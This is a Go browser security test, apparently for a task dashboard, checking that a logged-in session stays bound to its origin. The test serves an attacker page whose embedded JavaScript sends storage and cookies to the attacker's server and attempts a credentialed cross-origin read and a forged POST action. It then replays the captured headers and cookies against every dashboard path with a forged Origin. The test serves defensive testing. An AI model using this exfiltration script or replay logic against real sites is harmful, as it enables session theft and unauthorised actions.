// the person's browser: everything that server could keep and replay.
type captured struct {
	Method, Path string
	Header       http.Header
}

// The login is bound to the dashboard's origin: after logging in, the person
// visits a page served on another loopback port. That server records every
// request it receives (headers, cookies) and its page tries to read and act
// on the dashboard from the browser; then everything it captured is replayed
// against every path of the dashboard, with the dashboard's own Origin
// forged. Nothing reads, nothing acts, and the dashboard still works in the
// browser.
func TestUIDashboardLoginStaysWithItsOrigin(t *testing.T) {
	chrome := chromiumPath()
	if chrome == "" {
		t.Skip("no chromium binary found (apt-get install chromium); the dashboard's browser test cannot run")
	}
	w := newWorkspace(t)
	env := []string{"CAIRN_DAEMON=on", "CAIRN_DAEMON_IDLE=60s", "CAIRN_PROJECT=web", "CAIRN_USER=alice"}
	t.Cleanup(func() { runCairn(t, w, "", env, "stop") })
	agent := w.serve(append(env, "CAIRN_AGENT_ID=agent-a")...)
	defer agent.close()
	const title = "Guard the dashboard"
	task := taskID(t, agent, map[string]any{"title": title, "project": "web"})
	ok(t, agent, "thought_record", map[string]any{"task_id": task, "type": "decision", "content": "Sessions live in the origin"})
	sealed := ok(t, agent, "audit_session_start", map[string]any{"task_id": task, "auditor_id": "reviewer"})["session_id"].(string)
	ok(t, agent, "merkle_finalize", map[string]any{"session_id": sealed})
	thoughts := func() []any {
		return ok(t, agent, "thought_record_list", map[string]any{"task_id": task})["thoughts"].([]any)
	}
	before := len(thoughts())

	login := uiURL(t, w, env, "--allow-actions")
	base := login[:strings.Index(login, "/login")]

	// The other server: it records every request and serves a page that
	// tries, from the browser, to read the dashboard and to act on it.
	var mu sync.Mutex
	var got []captured
	reports := map[string]string{}
	evil := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, captured{Method: r.Method, Path: r.URL.RequestURI(), Header: r.Header.Clone()})
		if r.URL.Path == "/report" {
			reports[r.URL.Query().Get("k")] = r.URL.Query().Get("v")
		}
		mu.Unlock()
		if r.URL.Path != "/" {
			rw.WriteHeader(204)
			return
		}
		rw.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(rw, `<!doctype html><title>elsewhere</title><img src="/pixel"><script>
const d = %q, report = (k, v) => fetch("/report?" + new URLSearchParams({k: k, v: String(v)}));
const tries = [
  report("storage", JSON.stringify({session: Object.assign({}, sessionStorage), local: Object.assign({}, localStorage), cookie: document.cookie})),
  fetch(d + "/api/tasks", {credentials: "include"}).then((r) => r.text()).then((b) => report("read", b), (e) => report("read", "refused: " + e)),
  fetch(d + "/api/task/%s/action", {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": "text/plain"},
    body: JSON.stringify({action: "comment", content: "written from another origin"})}).then((r) => report("act", r.type), (e) => report("act", "refused: " + e)),
];
Promise.allSettled(tries).then(() => { document.title = "done"; });
</script>`, base, task)
	}))
	defer evil.Close()

	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(chrome), chromedp.NoSandbox, chromedp.WindowSize(1280, 800), chromedp.Flag("disable-gpu", true))
	actx, cancelA := chromedp.NewExecAllocator(context.Background(), opts...)
	defer cancelA()
	ctx, cancel := chromedp.NewContext(actx, chromedp.WithErrorf(func(string, ...any) {}))
	defer cancel()
	ctx, cancelT := context.WithTimeout(ctx, 90*time.Second)
	defer cancelT()
	card := fmt.Sprintf(`.card[data-task=%q]`, task)
	chromedp.ListenTarget(ctx, func(ev any) { // the page's own errors, to read when a step fails
		if e, ok := ev.(*runtime.EventExceptionThrown); ok {
			t.Logf("page exception: %s", e.ExceptionDetails.Error())
		}
	})
	if err := chromedp.Run(ctx, chromedp.Navigate(login), chromedp.WaitVisible(card), chromedp.WaitVisible(`#live.on`)); err != nil {
		t.Fatalf("log in and see the board: %v", err)
	}
	if err := chromedp.Run(ctx, chromedp.Navigate(evil.URL+"/"), chromedp.Poll(`document.title === "done"`, nil)); err != nil {
		t.Fatalf("visit the other port's page: %v", err)
	}
	mu.Lock()
	caps := append([]captured(nil), got...)
	rep := maps.Clone(reports)
	mu.Unlock()
	if len(caps) < 3 {
		t.Fatalf("the other server saw %d requests, want the page, its image and its reports", len(caps))
	}
	t.Logf("the other server captured %d requests; its page reports %v; first %v", len(caps), rep, caps[0])
	if strings.Contains(rep["read"], title) {
		t.Errorf("the other origin's page read the dashboard: %s", rep["read"])
	}

	// Replay everything captured against every path of the dashboard, as
	// curl would: the captured headers (cookies included) with the
	// dashboard's own Origin forged, under both the captured Host and the
	// dashboard's own.
	paths := []struct{ method, path, body string }{
		{"GET", "/", ""}, {"GET", "/board", ""}, {"GET", "/task/" + task, ""}, {"GET", "/audits", ""},
		{"GET", "/audits/" + sealed, ""}, {"GET", "/audits/" + sealed + "/bundle", ""}, {"GET", "/sdd", ""}, {"GET", "/system", ""},
		{"GET", "/view/board", ""}, {"GET", "/view/task/" + task, ""}, {"GET", "/view/system", ""}, {"GET", "/view/audits/" + sealed, ""},
		{"GET", "/api/tasks?project=web&status=backlog", ""}, {"GET", "/events", ""},
		{"POST", "/api/task/" + task + "/action", `{"action":"comment","content":"replayed from another origin"}`},
		{"GET", "/api/audits/" + sealed + "/bundle", ""}, {"POST", "/login", ""}, {"POST", "/api/login", `{"token":""}`},
	}
	secrets := []string{title, "alice", sealed, "Sessions live in the origin"}
	client := &http.Client{Timeout: 10 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	opened := 0
	for i, c := range caps {
		for _, host := range []string{"", c.Header.Get("Host")} {
			for _, p := range paths {
				req, _ := http.NewRequest(p.method, base+p.path, strings.NewReader(p.body))
				for k, vs := range c.Header {
					if k == "Content-Length" {
						continue
					}
					req.Header[k] = append([]string(nil), vs...)
				}
				if host != "" {
					req.Host = host
				}
				req.Header.Set("Origin", base)
				req.Header.Set("Content-Type", "application/json")
				res, err := client.Do(req)
				if err != nil {
					t.Fatalf("replay %s %s: %v", p.method, p.path, err)
				}
				var body []byte
				if !strings.HasPrefix(res.Header.Get("Content-Type"), "text/event-stream") {
					body, _ = io.ReadAll(io.LimitReader(res.Body, 1<<20))
				}
				res.Body.Close()
				leak := ""
				for _, s := range secrets {
					if bytes.Contains(body, []byte(s)) {
						leak = s
					}
				}
				if res.StatusCode < 300 && (leak != "" || strings.HasPrefix(res.Header.Get("Content-Type"), "text/event-stream") || p.method == "POST") {
					opened++
					if opened <= 12 {
						t.Errorf("request %d (%s %s) replayed as %s %s (Host %q) opened it: %d %s, showing %q", i, c.Method, c.Path, p.method, p.path, host, res.StatusCode, res.Header.Get("Content-Type"), leak)
					}
				}
			}
		}
	}
	if opened > 0 {
		t.Errorf("%d replays of what the other server captured opened the dashboard", opened)
	}
	if n := len(thoughts()); n != before {
		t.Fatalf("T's trail grew from %d to %d thoughts: another origin acted on it", before, n)
	}

	// The dashboard still works in the browser: the board loads and goes
	// live, and a comment from the task page lands in the trail as alice.
	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/board"), chromedp.WaitVisible(card), chromedp.WaitVisible(`#live.on`)); err != nil {
		t.Fatalf("back on the board: %v", err)
	}
	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/task/"+task), chromedp.WaitVisible(`form[data-action="comment"] textarea`),
		chromedp.SetValue(`form[data-action="comment"] textarea`, "Still works from its own origin", chromedp.ByQuery),
		chromedp.Click(`form[data-action="comment"] button`, chromedp.ByQuery),
		chromedp.Poll(`document.querySelector(".actions .result").textContent === "Done."`, nil)); err != nil {
		t.Fatalf("comment from the task page: %v", err)
	}
	th := thoughts()
	last := th[len(th)-1].(map[string]any)
	if len(th) != before+1 || last["content"] != "Still works from its own origin" || last["recorded_by"] != "alice" {
		t.Errorf("after the page's comment: %d thoughts, last %v; want %d, the comment by alice", len(th), last, before+1)
	}
	// A proof bundle downloads from the page, fetched with the session.
	dl := t.TempDir()
	if err := chromedp.Run(ctx, browser.SetDownloadBehavior(browser.SetDownloadBehaviorBehaviorAllow).WithDownloadPath(dl),
		chromedp.Navigate(base+"/audits/"+sealed), chromedp.Click(`a[href$="/bundle"]`, chromedp.ByQuery)); err != nil {
		t.Fatalf("download the bundle: %v", err)
	}
	eventually(t, 30*time.Second, "the browser to save the bundle", func() bool {
		b, err := os.ReadFile(filepath.Join(dl, sealed+".proof.json"))
		return err == nil && bytes.Contains(b, []byte(sealed))
	})
}
